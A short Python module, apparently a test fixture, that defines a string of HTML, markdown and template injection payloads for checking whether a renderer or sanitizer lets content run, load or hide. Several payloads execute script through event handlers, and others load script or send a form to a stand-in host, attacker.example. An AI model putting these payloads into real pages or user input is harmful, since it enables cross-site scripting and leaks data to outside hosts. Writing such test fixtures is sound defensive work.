"""Text that would do something on a page that let it: run, load, or hide what stands beside it."""

from __future__ import annotations

HOST = "https://attacker.example"
TEXT = f"""# </title></pre></code><script>window.ran = 1; alert(1)</script>
<img src=x onerror="window.ran = 1"><img src="{HOST}/pixel.png">
<iframe srcdoc="<script>parent.ran = 1</script>"></iframe><iframe src="{HOST}"></iframe>
<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>
<a href="javascript:window.ran = 1" autofocus onfocus="window.ran = 1">[x](javascript:alert(1))</a>
<meta http-equiv="refresh" content="0; url={HOST}/away"><base href="{HOST}/">
<style>@import url({HOST}/style.css); body {{ display: none }}</style>
<link rel="stylesheet" href="{HOST}/style.css"><link rel="prefetch" href="{HOST}/next">
<object data="{HOST}/object"></object><embed src="{HOST}/embed"><video src="{HOST}/film" autoplay>
<form action="{HOST}/form"><input autofocus onfocus="window.ran = 1"><button>Go</button></form>
<details open ontoggle="window.ran = 1">{{{{ 7 * 191 }}}}{{% raw %}}</details><!-- ]]>
"><script src="{HOST}/script.js"></script>' onmouseover='window.ran = 1'
$\\frac{{$ \x1b[2J\x00\u202e
"""
